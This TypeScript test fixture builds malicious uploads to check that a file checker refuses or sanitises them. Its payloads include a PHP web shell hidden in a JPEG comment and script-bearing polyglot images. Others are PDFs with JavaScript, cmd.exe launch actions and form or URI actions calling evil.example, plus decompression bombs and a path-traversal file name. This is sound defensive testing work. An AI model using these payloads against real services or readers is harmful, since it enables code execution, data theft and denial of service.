import { deflateRawSync, deflateSync } from 'node:zlib';
import type { Refusal } from '../domain/check-file.js';
import { hidingPdfs } from './hiding-pdfs.js';
import { packedPdfOf, pageObjects, pdfOf, pdfStream } from './pdfs.js';
import { paint, photoWithTraces, withComment } from './pictures.js';

/** A file made to harm, and what becomes of it: why it is refused, or the kind of picture that is left of it. */
export interface HostileFile {
  readonly what: string;
  readonly name: string;
  readonly bytes: Buffer;
  readonly becomes: Refusal | 'image/jpeg';
  /** What must not be found in what is kept. */
  readonly gone?: readonly string[];
}

const MB = 1024 * 1024;
const SCRIPT = '<script>alert(document.domain)</script>';
const ALERT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

/** A ZIP archive with one empty file in it, as short as they come. */
function zip(name = 'evil.js'): Buffer {
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(name.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + name.length, 12);
  end.writeUInt32LE(local.length + name.length, 16);
  return Buffer.concat([local, Buffer.from(name), central, Buffer.from(name), end]);
}

function chunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  return Buffer.concat([head, data, Buffer.alloc(4)]);
}

/** A PNG that says that it is so large; of its lines there is as good as nothing. */
function pngOf(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const parts = [chunk('IHDR', header), chunk('IDAT', deflateSync(Buffer.alloc(1000))), chunk('IEND', Buffer.alloc(0))];
  return Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), ...parts]);
}

/** The JPEG with another size in its head. */
function saying(jpeg: Buffer, width: number, height: number): Buffer {
  const changed = Buffer.from(jpeg);
  const head = Math.max(changed.indexOf('\xff\xc0', 0, 'latin1'), changed.indexOf('\xff\xc2', 0, 'latin1'));
  changed.writeUInt16BE(height, head + 5);
  changed.writeUInt16BE(width, head + 7);
  return changed;
}

/** So many bytes of nothing, packed as small as they get, without ever being held whole. */
function packedNothing(megabytes: number): Buffer {
  // Blocks of a deflate stream can follow each other: one megabyte is packed once and repeated.
  const block = deflateRawSync(Buffer.alloc(MB), { finishFlush: 3 });
  const last = deflateRawSync(Buffer.alloc(0));
  return Buffer.concat([Buffer.from([0x78, 0xda]), ...Array<Buffer>(megabytes).fill(block), last, Buffer.alloc(4)]);
}

/** LZW of the same byte again and again: each code stands for one byte more than the one before. */
function lzwBomb(megabytes: number): Buffer {
  let [bits, count] = [0n, 0n];
  const bytes: number[] = [];
  const put = (code: number, width: bigint) => {
    bits = (bits << width) | BigInt(code);
    count += width;
    while (count >= 8n) {
      bytes.push(Number((bits >> (count - 8n)) & 0xffn));
      count -= 8n;
      bits &= (1n << count) - 1n;
    }
  };
  let written = 0;
  while (written < megabytes * MB) {
    put(256, 9n);
    put(0, 9n);
    written += 1;
    for (let code = 258, length = 2; code < 4094; code += 1, length += 1) {
      put(code, code < 511 ? 9n : code < 1023 ? 10n : code < 2047 ? 11n : 12n);
      written += length;
    }
    // The width falls back with the next clearing, which still comes in twelve.
    put(256, 12n);
  }
  put(257, 9n);
  put(0, 7n);
  return Buffer.from(bytes);
}

async function pictures(): Promise<HostileFile[]> {
  const jpeg = await paint(64, 48).jpeg().toBuffer();
  const progressive = await paint(64, 48).jpeg({ progressive: true }).toBuffer();
  const png = await paint(64, 48).png().toBuffer();
  const webp = await paint(64, 48).webp().toBuffer();
  const withText = Buffer.concat([
    png.subarray(0, -12),
    chunk('tEXt', Buffer.from(`Comment\0${SCRIPT}`)),
    png.subarray(-12),
  ]);
  return [
    {
      what: 'a photo with the place where it was taken',
      name: 'IMG_1.jpg',
      bytes: await photoWithTraces(),
      becomes: 'image/jpeg',
      gone: ['Exif', 'Secret Camera', 'xmpmeta', 'ICC_PROFILE'],
    },
    {
      what: 'a picture that is an archive too',
      name: 'photo.jpg',
      bytes: Buffer.concat([jpeg, zip()]),
      becomes: 'image/jpeg',
      gone: ['PK\x03\x04', 'PK\x05\x06'],
    },
    {
      what: 'a picture with a script as its comment',
      name: 'photo.php.jpg',
      bytes: withComment(jpeg, `<?php system($_GET[0]); ?>${SCRIPT}`),
      becomes: 'image/jpeg',
      gone: ['<?php', '<script'],
    },
    {
      what: 'a picture that is a page too',
      name: 'photo.html',
      bytes: Buffer.concat([png, Buffer.from(SCRIPT)]),
      becomes: 'image/jpeg',
      gone: ['<script'],
    },
    {
      what: 'a picture that says a script in its text',
      name: '../../photo.png',
      bytes: withText,
      becomes: 'image/jpeg',
      gone: ['<script'],
    },
    {
      what: 'a picture of more than fifty megapixels',
      name: 'photo.jpg',
      bytes: saying(jpeg, 8000, 6300),
      becomes: 'too_many_pixels',
    },
    {
      what: 'a progressive picture of thirty megapixels',
      name: 'photo.jpg',
      bytes: saying(progressive, 6400, 4800),
      becomes: 'too_many_pixels',
    },
    {
      what: 'a picture that says it is three gigapixels',
      name: 'bomb.png',
      bytes: pngOf(60_000, 60_000),
      becomes: 'too_many_pixels',
    },
    { what: 'a picture that is as good as empty', name: 'empty.png', bytes: pngOf(4000, 4000), becomes: 'damaged' },
    {
      what: 'a picture that is cut off',
      name: 'half.jpg',
      bytes: jpeg.subarray(0, Math.floor(jpeg.length * 0.6)),
      becomes: 'damaged',
    },
    {
      what: 'nothing behind the beginning of a picture',
      name: 'photo.jpg',
      bytes: Buffer.concat([jpeg.subarray(0, 4), Buffer.alloc(4000, 0x5a)]),
      becomes: 'damaged',
    },
    { what: 'a WebP that is cut off', name: 'photo.webp', bytes: webp.subarray(0, 60), becomes: 'damaged' },
  ];
}

function others(): HostileFile[] {
  return [
    { what: 'nothing', name: 'empty.jpg', bytes: Buffer.alloc(0), becomes: 'empty' },
    {
      what: 'more than ten megabytes',
      name: 'large.jpg',
      bytes: Buffer.concat([Buffer.from('\xff\xd8\xff\xe0', 'latin1'), Buffer.alloc(10 * MB)]),
      becomes: 'too_large',
    },
    {
      what: 'an SVG with a script',
      name: 'photo.jpg',
      bytes: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`),
      becomes: 'not_allowed',
    },
    {
      what: 'a page with a script',
      name: 'scan.pdf',
      bytes: Buffer.from(`<!doctype html>${SCRIPT}`),
      becomes: 'not_allowed',
    },
    {
      what: 'a page that would be taken for a PDF further on',
      name: 'scan.pdf',
      bytes: Buffer.concat([Buffer.from(SCRIPT), pdfOf(pageObjects())]),
      becomes: 'not_allowed',
    },
    {
      what: 'a program',
      name: 'photo.png',
      bytes: Buffer.concat([Buffer.from('MZ\x90\0'), Buffer.alloc(200)]),
      becomes: 'not_allowed',
    },
    { what: 'an archive', name: 'photos.pdf', bytes: zip(), becomes: 'not_allowed' },
    {
      what: 'a GIF that is a script too',
      name: 'photo.gif',
      bytes: Buffer.from('GIF89a/*\0\0\0\0\0\0*/=1;alert(1)'),
      becomes: 'not_allowed',
    },
    {
      what: 'a picture of an iPhone as it is kept',
      name: 'IMG_2.HEIC',
      bytes: Buffer.from('\0\0\0\x18ftypheic\0\0\0\0mif1heic', 'latin1'),
      becomes: 'heic',
    },
  ];
}

function pdfs(): HostileFile[] {
  const one = (what: string, bytes: Buffer, becomes: Refusal = 'active'): HostileFile => ({
    what,
    name: 'doc.pdf',
    bytes,
    becomes,
  });
  const catalog = (text: string) => pdfOf(pageObjects({ catalog: text }));
  const fine = pdfOf(pageObjects());
  const content = (stream: Buffer) => pdfOf([...pageObjects({ page: '/Contents 4 0 R' }), stream]);
  const manyArrays = `<< /A ${'['.repeat(200_000)}${']'.repeat(200_000)} >>`;
  return [
    one('a PDF with a script', catalog(`/OpenAction ${ALERT}`)),
    one(
      'a PDF with a script whose name is written in numbers',
      catalog('/OpenAction << /S /J#61vaScr#69pt /JS (1) >>'),
    ),
    one(
      'a PDF with a script packed with other objects',
      packedPdfOf(pageObjects({ catalog: '/OpenAction 4 0 R' }), [ALERT]),
    ),
    one(
      'a PDF with a script in objects that do not say what they are',
      Buffer.from(
        packedPdfOf(pageObjects({ catalog: '/OpenAction 4 0 R' }), [ALERT])
          .toString('latin1')
          .replace('/Type /ObjStm', '/Kind /ObjStm'),
        'latin1',
      ),
    ),
    one('a PDF with a script in a comment, where its table leads', catalog(`\n% 5 0 obj ${ALERT} endobj\n`)),
    one(
      'a PDF with a form that is a program in a version before',
      Buffer.concat([
        catalog('/AcroForm << /XFA (<xdp/>) >>'),
        Buffer.from('1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\nstartxref\n0\n%%EOF\n'),
      ]),
    ),
    one('a PDF that starts a program', catalog('/OpenAction << /S /Launch /F (cmd.exe) >>')),
    one(
      'a PDF that sends what is typed',
      pdfOf(
        pageObjects({
          page: '/Annots [<< /Type /Annot /Subtype /Link /A << /S /SubmitForm /F (https://evil.example) >> >>]',
        }),
      ),
    ),
    one(
      'a PDF that opens another document',
      pdfOf(pageObjects({ page: '/AA << /O << /S /GoToE /F (\\\\\\\\evil\\\\share) >> >>' })),
    ),
    one(
      'a PDF that calls home when it is opened',
      catalog('/OpenAction << /S /URI /URI (https://evil.example/seen) >>'),
    ),
    one(
      'a PDF that calls home when a page is shown',
      pdfOf([...pageObjects({ page: '/AA << /O 4 0 R >>' }), '<< /S /URI /URI (https://evil.example) >>']),
    ),
    one('a PDF whose form is a program', catalog('/AcroForm << /XFA (<xdp/>) >>')),
    one(
      'a PDF whose form is a program, in a page’s own bytes, where its table may lead',
      pdfOf([
        ...pageObjects({ page: '/Contents 4 0 R' }),
        pdfStream('1 0 obj << /AcroForm << /XFA 9 0 R >> >> endobj'),
      ]),
    ),
    one(
      'a PDF that carries a program',
      pdfOf([
        ...pageObjects({ catalog: '/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>' }),
        '<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>',
        pdfStream('MZ program', '/Type /EmbeddedFile'),
      ]),
    ),
    one(
      'a PDF that carries a file and does not say so',
      pdfOf([
        ...pageObjects({ catalog: '/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>' }),
        '<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>',
        pdfStream('MZ program'),
      ]),
    ),
    one(
      'a PDF with a password',
      pdfOf([...pageObjects(), '<< /Filter /Standard /V 1 /R 2 /O (o) /U (u) /P -4 >>'], '/Encrypt 4 0 R'),
      'encrypted',
    ),
    one('a PDF that is cut off', fine.subarray(0, 150), 'damaged'),
    one('a PDF that is cut off and ended', Buffer.concat([fine.subarray(0, 120), Buffer.from('\n%%EOF\n')]), 'damaged'),
    one('a PDF without pages', pdfOf(['<< /Type /Catalog >>']), 'damaged'),
    one('a PDF that is an archive too', Buffer.concat([fine, zip()]), 'damaged'),
    one(
      'a PDF that is an archive too, with the end of a PDF as its comment',
      Buffer.concat([fine, zip(), Buffer.from('\n%%EOF\n')]),
      'damaged',
    ),
    one('a PDF with a page of a gigabyte', content(pdfStream(packedNothing(1024), '/Filter /FlateDecode')), 'damaged'),
    one(
      'a PDF with a page packed twice',
      content(pdfStream(deflateSync(packedNothing(1024)), '/Filter [/FlateDecode /FlateDecode]')),
      'damaged',
    ),
    one(
      'a PDF with objects of a gigabyte',
      pdfOf([...pageObjects(), pdfStream(packedNothing(1024), '/Filter /FlateDecode /Type /ObjStm /N 1 /First 4')]),
      'damaged',
    ),
    one(
      'a PDF with a page of sixty megabytes, packed as of old',
      content(pdfStream(lzwBomb(60), '/Filter /LZWDecode')),
      'damaged',
    ),
    one('a PDF packed in a way that nobody knows', content(pdfStream('x', '/Filter /Crypt')), 'damaged'),
    one(
      'a PDF with a picture of ten gigapixels',
      pdfOf([...pageObjects(), pdfStream('x', '/Subtype /Image /Width 100000 /Height 100000 /Filter /JBIG2Decode')]),
      'too_many_pixels',
    ),
    one(
      'a PDF with a picture whose size stands elsewhere',
      pdfOf([...pageObjects(), pdfStream('x', '/Subtype /Image /Width 5 0 R /Height 5 0 R'), '100000']),
      'damaged',
    ),
    ...hidingPdfs.map(([what, bytes, becomes]) => one(`a PDF that hides ${what}`, bytes, becomes)),
    one('a PDF with endless arrays', pdfOf([...pageObjects(), manyArrays]), 'damaged'),
    one('a PDF with a string of twelve megabytes', packedPdfOf(pageObjects(), [`(${'a'.repeat(12 * MB)})`]), 'damaged'),
    one(
      'a PDF with three hundred thousand names',
      packedPdfOf(pageObjects(), [`[${Array.from({ length: 300_001 }, (_, n) => `/${n.toString(36)}`).join(' ')}]`]),
      'damaged',
    ),
  ];
}

/** All of them. Made when asked for: some are large. */
export async function hostileFiles(): Promise<readonly HostileFile[]> {
  return [...others(), ...(await pictures()), ...pdfs()];
}
